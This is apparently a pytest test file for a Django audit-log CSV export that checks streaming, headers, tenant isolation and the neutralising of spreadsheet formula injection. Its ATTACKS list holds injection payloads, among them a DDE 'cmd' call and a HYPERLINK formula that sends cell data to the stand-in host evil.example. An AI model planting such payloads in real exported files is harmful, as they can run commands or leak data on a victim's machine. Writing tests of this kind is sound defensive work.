"""The trail as a file: whole, streamed, an entry itself, and nothing that a spreadsheet would calculate."""

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from django.db import connection
from django.test import Client

from audit import exporting, queries
from audit.exporting import harmless
from bots.models import Bot
from tests.audit.trail import write
from tests.factories.bots import BotFactory
from tests.logins import as_login
from tradewise.tenancy.context import tenant_context

URL = "/activity/export.csv"
NOON = datetime(2026, 11, 20, 12, tzinfo=UTC)

ATTACKS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\tharmless otherwise",
    "  =1",
    "\u00a0=1",
    "\u200b=1",
    "\ufeff=1",
    "'=1",
    '"=1',
    ' "=1',
    "＝1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
]


def bare(text: str) -> str:
    """The text without apostrophes."""
    return text.replace("'", "")


@pytest.fixture
def exported(signed_in):
    """`exported(action="bot.start")`: the rows of the file, as a reader of CSV sees them."""

    def export(**filters):
        answer = signed_in.post(URL, filters)
        assert answer.status_code == 200
        text = b"".join(answer.streaming_content).decode()
        return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))

    return export


def test_it_is_a_file_that_nobody_keeps(signed_in):
    answer = signed_in.post(URL)
    body = b"".join(answer.streaming_content)
    assert answer.streaming
    assert body.startswith("\ufeffid,created_at,".encode())
    assert b"\r\n" in body
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert answer["Content-Disposition"].startswith('attachment; filename="tradewise-activity-2')
    assert answer["Content-Disposition"].endswith('.csv"')
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert answer["Cache-Control"] == "no-store"


def test_it_has_every_column_as_it_is(alice, bot, exported):
    with tenant_context(alice.tenant_id, actor=str(alice.pk), ip="203.0.113.7", user_agent="curl/8.5"):
        Bot.objects.filter(pk=bot.pk).update(description="=1;\n+2", stake_currency="USDT")
    row = exported(action="bot.change")[0]
    assert list(row) == list(queries.RECORD)
    assert row["actor"] == row["user_id"] == str(alice.pk)
    assert row["resource_id"] == bot.bot_id.replace("-", "'-", 1 if bot.bot_id.startswith("-") else 0)
    assert row["new_values"] == '{"description": "=1;\\n+2", "stake_currency": "USDT"}'
    assert row["old_values"] == '{"description": null, "stake_currency": ""}'
    assert (row["ip_address"], row["user_agent"], row["login"]) == ("203.0.113.7", "curl/8.5", "tw_app")
    assert row["tenant_id"] == str(alice.tenant_id)
    assert int(row["xact"]) > 0
    assert datetime.fromisoformat(row["created_at"]).tzinfo is not None


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_is_calculated(attack):
    assert harmless(attack).startswith("'")
    assert bare(harmless(attack)) == bare(attack)


@pytest.mark.parametrize("attack", ["x;=1+1", 'x;"=1', "x\t@SUM(1)", "x\r\n-1", "x; ＝1"])
def test_nor_what_another_languages_spreadsheet_takes_for_a_cell(attack):
    assert harmless(attack) != attack
    assert bare(harmless(attack)) == attack


@pytest.mark.parametrize(
    "text",
    [
        "",
        "Grid",
        "a=b",
        "1-2",
        "7",
        "Mozilla/5.0 (X11; Linux)",
        '{"profit": -1}',
        "a, -b",
        "e@example.com",
        "'quoted'",
    ],
)
def test_what_is_harmless_stays_as_it_is(text):
    assert harmless(text) == text


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("column", ["user_agent", "resource_id", "action"])
def test_an_attack_in_a_column_arrives_as_text(alice, exported, column):
    attacks = [attack for attack in ATTACKS if "\n" not in attack]
    write(alice.tenant_id, *({"resource_type": "bot", column: attack} for attack in attacks))
    cells = [row[column] for row in exported(resource="bot")]
    assert sorted(bare(cell) for cell in cells) == sorted(bare(attack) for attack in attacks)
    assert all(cell.startswith("'") for cell in cells)


def test_an_attack_in_a_name_lies_within_a_text_that_begins_with_a_brace(alice, exported):
    for attack in ATTACKS:
        BotFactory(tenant_id=alice.tenant_id, name=attack)
    cells = [row["new_values"] for row in exported(action="bot.create")]
    assert len(cells) == len(ATTACKS)
    assert all(cell.startswith("{") for cell in cells)


@pytest.mark.django_db(transaction=True)
def test_it_leaves_an_entry_before_its_first_row_with_what_was_filtered(alice, signed_in, exported):
    answer = signed_in.post(URL, {"action": "bot.start", "since": "2026-11-01"})
    del answer  # not a row of it was read
    entry = exported(action="audit.export")
    assert [row["new_values"] for row in entry] == [
        '{"action": "audit.export"}',
        '{"since": "2026-11-01", "action": "bot.start"}',
    ]
    assert entry[0]["actor"] == str(alice.pk)
    assert entry[0]["ip_address"] == "127.0.0.1"


@pytest.mark.django_db(transaction=True)
def test_all_of_it_comes_whatever_the_size_of_the_pieces(alice, exported, monkeypatch):
    monkeypatch.setattr(exporting, "CHUNK", 7)
    monkeypatch.setattr(queries, "WINDOW", 20)
    moments = [NOON - timedelta(minutes=number // 10) for number in range(95)]
    write(alice.tenant_id, *({"created_at": moment, "action": "bot.pause"} for moment in moments))
    write(alice.tenant_id, *({"created_at": NOON - timedelta(days=1)} for _ in range(50)))
    write(alice.tenant_id, {"created_at": NOON - timedelta(days=2), "action": "bot.pause"})
    numbers = [int(row["id"]) for row in exported(action="bot.pause")]
    assert len(numbers) == len(set(numbers)) == 96


@pytest.mark.django_db(transaction=True)
def test_no_transaction_is_open_while_the_file_is_sent(alice, signed_in, monkeypatch):
    monkeypatch.setattr(exporting, "CHUNK", 2)
    write(alice.tenant_id, *({} for _ in range(9)))
    pieces = 0
    for _ in signed_in.post(URL).streaming_content:
        pieces += 1
        assert not connection.in_atomic_block
        with as_login("tw_worker"):
            pass  # the connection is free to be closed
    assert pieces >= 5


def test_it_needs_a_login(alice):
    answer = Client().post(URL)
    assert answer.status_code == 302
    assert answer["Location"].startswith("/account/login/")


@pytest.mark.parametrize("method", ["get", "head", "put", "patch", "delete"])
def test_nothing_that_only_follows_links_exports(signed_in, exported, method):
    assert getattr(signed_in, method)(URL).status_code == 405
    assert len(exported(action="audit.export")) == 1


def test_it_bears_the_token_of_a_form(alice):
    strict = Client(enforce_csrf_checks=True)
    with tenant_context(alice.tenant_id):
        strict.force_login(alice)
    assert strict.post(URL).status_code == 403


def test_a_filter_that_makes_no_sense_exports_nothing(signed_in, exported):
    answer = signed_in.post(URL, {"since": "yesterday"})
    assert answer.status_code == 422
    assert "Enter a day as" in answer.content.decode()
    assert len(exported(action="audit.export")) == 1


def test_another_tenants_entries_are_not_in_it(alice, bot, mallory, client_of):
    body = b"".join(client_of(mallory).post(URL, {"everything": "on"}).streaming_content).decode()
    assert "audit.export" in body
    assert str(alice.tenant_id) not in body
    assert bot.bot_id not in body
